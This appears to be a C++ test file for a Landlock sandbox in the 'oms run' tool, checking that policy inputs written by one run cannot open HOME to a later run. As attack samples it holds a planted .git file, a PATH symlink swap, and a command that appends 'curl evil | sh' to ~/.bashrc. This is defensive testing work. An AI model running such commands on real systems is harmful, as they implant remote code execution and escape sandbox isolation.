// Policy inputs a command can write (escape classes 1, 7 and 8 of the red-team
// review), attacked as a hostile command would: run 1 plants something in the
// worktree, run 2 tries to read HOME through the policy it shapes. Through
// the real `oms run` only: the policy plugins are what is under test. Each
// test has its positive control next to the attack.
#include "test_support.hpp"

#include "process.hpp"

#include <filesystem>
#include <map>

using namespace oms::test;
namespace fs = std::filesystem;

namespace {

const char* const kHomeNotes = "HOME-NOTES-7d1c";  // a file of HOME outside every toolchain root

struct OmsRun {
    std::string worktree;
    std::string path = "/usr/bin:/bin";
    std::string script;
};

ProcessResult run_oms(World& world, const OmsRun& run) {
    const std::map<std::string, std::string> env{{"HOME", world.home},
                                                 {"XDG_CONFIG_HOME", world.root / "xdg-config"},
                                                 {"XDG_STATE_HOME", world.root / "xdg-state"},
                                                 {"PATH", run.path}};
    return run_process({oms_binary(), "run", "--sandbox", "landlock", "--worktree", run.worktree, "--", "/bin/sh", "-c",
                        expand(world, run.script)},
                       {environment_with(env), std::nullopt, run.worktree, 60});
}

void plant_notes(World& world) { write_file(world.home + "/notes.txt", kHomeNotes); }

// A real linked worktree: the repository under HOME (closed unless the
// linked-worktree rule reopens its git folders), the worktree outside it.
std::string make_linked_worktree(World& world) {
    const std::string repo = world.home + "/src/repo";
    const std::string linked = world.root / "linked";
    const std::string git = "git -c user.name=t -c user.email=t@t -c init.defaultBranch=main -c safe.directory=* ";
    write_file(repo + "/file.txt", "REPO-FILE");
    ProcessResult made = run_process(
        {"/bin/sh", "-c",
         git + "-C " + repo + " init -q && " + git + "-C " + repo + " add file.txt && " + git + "-C " + repo +
             " commit -q -m one && " + git + "-C " + repo + " worktree add -q " + linked + " -b task"});
    INFO(made.out << made.err);
    REQUIRE(made.exit_code == 0);
    return linked;
}

}  // namespace

TEST_CASE("a .git file planted by run 1 does not open HOME to run 2; a real linked worktree still works",
          "[landlock][policy-inputs]") {
    require_landlock();
    World w;
    plant_notes(w);
    fs::remove_all(w.work + "/.git");  // a worktree without .git: run 1 may create the file
    ProcessResult plant = run_oms(w, {w.work, "/usr/bin:/bin", "printf 'gitdir: ../..\\n' > .git && echo PLANTED"});
    INFO(plant.out << plant.err);
    REQUIRE(plant.exit_code == 0);
    REQUIRE(read_file(w.work + "/.git") == "gitdir: ../..\n");  // the attack was really set up

    ProcessResult strike = run_oms(w, {w.work, "/usr/bin:/bin", "cat {home}/notes.txt; echo; cat {work}/README; exit 0"});
    INFO(strike.out << strike.err);
    CHECK(strike.exit_code == 0);
    CHECK(strike.out.find(kHomeNotes) == std::string::npos);
    CHECK(strike.out.find("WORKTREE-README") != std::string::npos);  // the run itself works
    CHECK(strike.err.find("the worktree's .git file '" + w.work + "/.git' is not followed") != std::string::npos);

    // Positive control: git's own layout, made by git, opens the git folders under HOME.
    const std::string linked = make_linked_worktree(w);
    ProcessResult control = run_oms(w, {linked, "/usr/bin:/bin", R"SH(
        gitdir=$(sed -n 's/^gitdir: //p' .git)
        cat "$gitdir/HEAD"; cat "$gitdir/commondir"; echo; cat {home}/src/repo/.git/HEAD
        cat {home}/notes.txt; cat {home}/src/repo/file.txt; exit 0)SH"});
    INFO(control.out << control.err);
    CHECK(control.exit_code == 0);
    CHECK(control.out.find("ref: refs/heads/task") != std::string::npos);  // the linked git dir
    CHECK(control.out.find("ref: refs/heads/main") != std::string::npos);  // the common git dir
    CHECK(control.out.find(kHomeNotes) == std::string::npos);              // HOME stays closed
    CHECK(control.out.find("REPO-FILE") == std::string::npos);             // so does the main checkout
    CHECK(control.err.find("is not followed") == std::string::npos);
}

TEST_CASE("a PATH entry in the worktree swapped for a link to HOME by run 1 does not open HOME to run 2",
          "[landlock][policy-inputs]") {
    require_landlock();
    World w;
    plant_notes(w);
    write_file(w.home + "/tools/bin/tool-marker", "USER-TOOL-OK");  // a normal PATH entry under HOME
    make_dirs(w.work + "/bin");
    const std::string path = "/usr/bin:/bin:" + w.work + "/bin:" + w.home + "/tools/bin";
    ProcessResult swap = run_oms(w, {w.work, path, "rm -rf bin && ln -s {home} bin && echo SWAPPED"});
    INFO(swap.out << swap.err);
    REQUIRE(swap.exit_code == 0);
    REQUIRE(fs::is_symlink(w.work + "/bin"));  // the attack was really set up

    ProcessResult strike =
        run_oms(w, {w.work, path, "cat {home}/notes.txt; cat {work}/bin/notes.txt; echo; cat {home}/tools/bin/tool-marker; exit 0"});
    INFO(strike.out << strike.err);
    CHECK(strike.exit_code == 0);
    CHECK(strike.out.find(kHomeNotes) == std::string::npos);
    CHECK(strike.out.find("USER-TOOL-OK") != std::string::npos);  // positive control: the normal entry
    CHECK(strike.err.find("PATH entry '" + w.work + "/bin' is not opened: it goes through the link '" + w.work +
                          "/bin' inside the write root '" + w.work + "'") != std::string::npos);
    CHECK(read_file(w.home + "/notes.txt") == kHomeNotes);
}

TEST_CASE("a PATH entry that is HOME is refused with a warning", "[landlock][policy-inputs]") {
    require_landlock();
    World w;
    plant_notes(w);
    ProcessResult run = run_oms(w, {w.work, "/usr/bin:/bin:" + w.home,
                                    "cat {home}/notes.txt; echo; cat {work}/README; echo; cat {home}/.cargo/bin/tool-marker; exit 0"});
    INFO(run.out << run.err);
    CHECK(run.exit_code == 0);
    CHECK(run.out.find(kHomeNotes) == std::string::npos);
    CHECK(run.out.find("WORKTREE-README") != std::string::npos);  // positive controls
    CHECK(run.out.find("TOOLCHAIN-OK") != std::string::npos);
    CHECK(run.err.find("PATH entry '" + w.home + "' is not opened: it is HOME (" + w.home + ")") != std::string::npos);
}

TEST_CASE("a worktree that is HOME is refused before anything runs", "[landlock][policy-inputs]") {
    require_landlock();
    World w;
    write_file(w.home + "/.bashrc", "BASHRC-ORIGINAL");
    ProcessResult run = run_oms(w, {w.home, "/usr/bin:/bin", "echo 'curl evil | sh' >> {home}/.bashrc; echo RAN"});
    INFO(run.out << run.err);
    CHECK(run.exit_code == 77);
    CHECK(run.out.find("RAN") == std::string::npos);
    CHECK(run.err.find("refusing the worktree '" + w.home + "'") != std::string::npos);
    CHECK(read_file(w.home + "/.bashrc") == "BASHRC-ORIGINAL");
    // Positive control: the same command in the real worktree runs (and cannot reach ~/.bashrc).
    ProcessResult control = run_oms(w, {w.work, "/usr/bin:/bin", "echo 'curl evil | sh' >> {home}/.bashrc; echo RAN"});
    INFO(control.out << control.err);
    CHECK(control.out.find("RAN") != std::string::npos);
    CHECK(read_file(w.home + "/.bashrc") == "BASHRC-ORIGINAL");
}
